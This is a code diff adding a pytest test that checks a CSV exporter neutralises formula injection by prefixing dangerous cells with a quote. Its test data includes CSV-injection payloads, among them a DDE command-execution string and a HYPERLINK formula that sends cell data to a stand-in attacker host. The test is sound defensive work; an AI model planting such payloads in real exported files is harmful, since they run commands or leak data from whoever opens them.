@@ -94,6 +94,32 @@ def test_jsonl_and_csv_hold_every_text(tmp_path):
     assert json.loads(table[-1][4]) == ["a", "b, \"c\""] and table[-1][5] == ""
 
 
+FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)",
+            '=HYPERLINK("http://evil.example/?"&A1, "click")', "\t=1+1", "\r=1+1")
+
+
+def test_csv_cells_never_start_a_formula(tmp_path):
+    """OWASP's rule: a cell starting with = + - @ tab or CR gets a ' in front; every other
+    character, and the XML and JSONL values, stay as they are."""
+    with open_writer(tmp_path / "o.csv", "csv", ["TEXT"]) as writer:
+        for i, text in enumerate(FORMULAS):
+            writer.write(result(i, [text], url=text))
+        writer.write(result(99, ["plain = text", "'quoted"], url="http://x/=", repeated=True))
+        writer.write(result(100, ["'=already quoted"]))
+    with open(tmp_path / "o.csv", encoding="utf-8", newline="") as fh:
+        table = list(csv.reader(fh))[1:]
+    for row, text in zip(table, FORMULAS):
+        assert row[1] == row[4] == "'" + text
+    assert table[-2][1] == "http://x/=" and json.loads(table[-2][4]) == ["plain = text",
+                                                                          "'quoted"]
+    assert table[-1][4] == "'=already quoted"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table
+                   for cell in row)
+    with open_writer(tmp_path / "o.jsonl", "jsonl") as writer:
+        writer.write(result(0, [FORMULAS[0]]))
+    assert json.loads((tmp_path / "o.jsonl").read_text("utf-8"))["fields"]["TEXT"] == FORMULAS[0]
+
+
 def test_writes_are_atomic(tmp_path):
     out = tmp_path / "out.xml"
     out.write_text("previous export", "utf-8")
